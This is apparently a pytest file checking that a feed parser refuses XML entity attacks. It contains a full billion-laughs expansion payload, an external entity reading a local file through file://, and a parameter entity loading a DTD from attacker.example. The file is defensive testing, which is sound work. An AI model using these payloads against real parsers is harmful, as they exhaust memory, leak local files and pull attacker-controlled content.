"""XML entity expansion (billion laughs) and external entities are refused; nothing is expanded or read."""

from __future__ import annotations

import tracemalloc

import pytest

from ayneh.monitoring.fetch.feeds import FeedError, parse_feed
from tests.monitoring.fetch.feed_samples import RSS_HEAD, RSS_TAIL, rss_item

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss><channel><item><title>&lol9;</title><link>https://a.example/1</link></item></channel></rss>"""


def test_billion_laughs_is_refused_without_expanding_anything() -> None:
    tracemalloc.start()
    try:
        with pytest.raises(FeedError, match=r"^refused: entity declaration <!ENTITY lol>"):
            parse_feed(BILLION_LAUGHS)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 5 * 1024 * 1024


def test_an_external_entity_pointing_at_a_local_file_is_refused_and_never_read(tmp_path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET")
    feed = (
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{secret}">]>'
        "<rss><channel><item><title>&xxe;</title><link>https://a.example/1</link></item></channel></rss>"
    ).encode()

    with pytest.raises(FeedError, match=r"^refused: entity declaration <!ENTITY xxe SYSTEM \"file://") as refused:
        parse_feed(feed)
    assert "TOP-SECRET" not in refused.value.reason


def test_a_parameter_entity_loading_an_external_dtd_is_refused() -> None:
    feed = (
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>'
        b"<rss><channel></channel></rss>"
    )

    with pytest.raises(FeedError, match=r"^refused: parameter entity declaration <!ENTITY remote"):
        parse_feed(feed)


def test_a_doctype_without_entities_is_read_as_usual() -> None:
    netscape = (
        '<?xml version="1.0"?>\n<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        '"http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
    )
    body = (netscape + RSS_HEAD.split("\n", 1)[1] + rss_item(1) + RSS_TAIL).encode()

    assert len(parse_feed(body).items) == 1
